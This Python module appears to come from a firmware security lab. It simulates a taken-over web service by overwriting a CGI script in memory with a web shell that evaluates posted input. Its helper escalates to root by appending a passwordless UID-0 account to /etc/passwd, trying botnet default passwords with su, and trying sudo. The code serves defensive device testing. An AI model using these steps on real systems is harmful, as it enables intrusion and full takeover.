"""A service that was taken over: each request has the web server run the attacker's shell code, as its user and within
all that confines it.

It stands for any flaw that lets someone run code in a service, and there is none to be searched for in each version: a
script of the web server is overwritten where the kernel keeps it in memory, which no check of the disk sees. What the
device verifies, and what its service may do, is left as it is. That the service runs the attacker's code is where
these attacks begin; what they try is the step beyond it.
"""

import re
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass
from functools import cache
from pathlib import Path

from firmward.build.trees import open_tree
from firmward.lab import board as boards
from firmward.lab.attacks import Result, Unseen
from firmward.lab.challenge import challenge
from firmward.lab.means import memory
from firmward.lab.means.memory import Memory
from firmward.lab.means.web import Web
from firmward.lab.station import Station
from firmward.lab.switch import Switch
from firmward.lab.target import Powered, Target, Witness
from firmward.model.tree import Tree

HTTPS = 443
OK, ASKED = 200, 401
STARTS = 120.0
"""Seconds in which an untouched device becomes healthy, on a busy machine too."""
ANSWERS = 20.0
"""Seconds for one answer of the attacker's own code."""
SCRIPTS = ("var/www/cgi-bin/*", "www/cgi-bin/*", "usr/lib/cgi-bin/*", "srv/www/cgi-bin/*", "srv/http/cgi-bin/*")
ROOT = "slot/root.img"
OWN = b"""#!/bin/sh
exec 2>&1
printf 'Content-Type: text/plain\\r\\n\\r\\n'
eval "$(cat)"
exit
"""
"""What stands in place of the script: it runs what is posted."""
LABEL = re.compile(rb"web ([ -~]+) ([ -~]+)\n")
"""The word on the camera's label, which its first start writes for the printer of the factory."""


ACCOUNT = "owned::0:0::/:/bin/sh"
WORDS = ("xc3511", "root", "admin", "support", "888888", "1234")
"""Passwords that botnets try first."""


def as_root(code: str) -> str:
    """Code that runs with root's rights where the device has one of the usual ways there, and without them where it has
    none: an account written into the open table, root's password in everybody's dictionary, sudo without one."""
    return f"""\
job=$(mktemp)
cat >"$job" <<'END'
{code}
END
echo '{ACCOUNT}' >>/etc/passwd && su {ACCOUNT.split(":")[0]} -c "sh $job; :" && exit
for word in {" ".join(WORDS)}; do
	echo "$word" | su root -c "sh $job; :" && exit
done
sudo -n sh -c "sh $job; :" && exit
sh "$job"
"""


@dataclass(frozen=True, slots=True)
class Script:
    """Of the web server: under which `url`, and its `content`."""

    url: str
    content: bytes


@dataclass(frozen=True, slots=True)
class TakenService:
    """`powered` is the device that it runs on."""

    powered: Powered
    web: Web
    url: str

    def run(self, code: str, seconds: float = ANSWERS) -> str:
        """What the attacker's code said; nothing where no answer came in time."""
        page = self.web.ask(self.url, code, seconds)
        self.powered.hear(0)
        return "" if page is None else page.text

    def goes_on(self, after: str) -> Result:
        """The device serves its own page yet. Raises Unseen where it does not."""
        page = self.web.ask("/", seconds=ANSWERS)
        if page is None or page.status != OK:
            raise Unseen(f"{after}, and the device's own page is not served any more")
        self.powered.target.note(Witness.NETWORK, f"{after}, and the device's own page is served as before")
        return Result.STOPPED


@contextmanager
def taken(
    target: Target,
    ports: Sequence[int] = (),
    attached: Sequence[str] = (),
    descriptors: Sequence[int] = (),
    station: Station | Switch | None = None,
    login: str | None = None,
) -> Iterator[TakenService]:
    """Switch the device on and take its web server over. `login` is that of its pages, where an earlier start told it:
    the word for the label is written once. Raises Unseen when that does not succeed."""
    script = _script(target)
    size = boards.virtual(target.device.said.board).memory
    with (
        memory.shared(size) as shared,
        target.power(
            (HTTPS, *ports), (*shared.arguments, *attached), (shared.descriptor, *descriptors), station
        ) as powered,
    ):
        powered.await_healthy(STARTS)
        web = Web(powered.address(HTTPS), login)
        service = TakenService(powered, _opened(powered, shared, script, web), script.url)
        _overwrite(shared, script)
        _ask(service)
        yield service


def _script(target: Target) -> Script:
    before = target.device.before if target.is_plain else None
    found = script_of(open_tree(before or target.device.folder / ROOT).tree)
    if found is None:
        raise Unseen("the system has no web server's script that could be taken over")
    return found


@cache
def can_be_taken(build: Path) -> bool:
    """Whether the root in the folder of a build has such a script."""
    image = build / ROOT
    return image.is_file() and script_of(open_tree(image).tree) is not None


def script_of(root: Tree) -> Script | None:
    """The last one of the shell's that is long enough."""
    found = None
    for path in (path for pattern in SCRIPTS for path in root.glob(pattern)):
        content = root.read(path) or b""
        if content.startswith(b"#!") and len(content) >= len(OWN):
            found = Script(f"/cgi-bin/{path.rpartition('/')[2]}", content)
    return found


def _opened(powered: Powered, shared: Memory, script: Script, web: Web) -> Web:
    """Its pages, by the word on the label where they ask for one; the script is in memory then."""
    limit = powered.target.seconds + STARTS
    while powered.target.seconds < limit:
        page = web.ask(script.url)
        powered.hear()
        if page is not None and page.status == ASKED and web.login is None:
            web = Web(web.address, _label(shared))
        elif page is not None and page.status == OK:
            return web
    raise Unseen("the web server does not give its page")


def _label(shared: Memory) -> str:
    for page in shared.pages(b"web "):
        found = LABEL.match(page.data)
        if found is not None:
            return b":".join(found.groups()).decode()
    raise Unseen("the web server asks for a password, and nobody has it")


def _overwrite(shared: Memory, script: Script) -> None:
    """In place, since the file's length stays."""
    wanted = script.content[: memory.PAGE].ljust(memory.PAGE, b"\0")
    own = OWN.ljust(min(len(script.content), memory.PAGE), b"#")
    for page in shared.pages(wanted):
        shared.overwrite(page.at, own)


def _ask(service: TakenService) -> None:
    asked = challenge()
    said = service.run(f"echo {asked.shell}; id")
    if not asked.is_answered(said):
        raise Unseen("the service does not run the attacker's code")
    who = said.split("\n")[1] if said.count("\n") else "nobody"
    service.powered.target.note(Witness.NETWORK, f"{service.url} runs what he posts, as {who}")
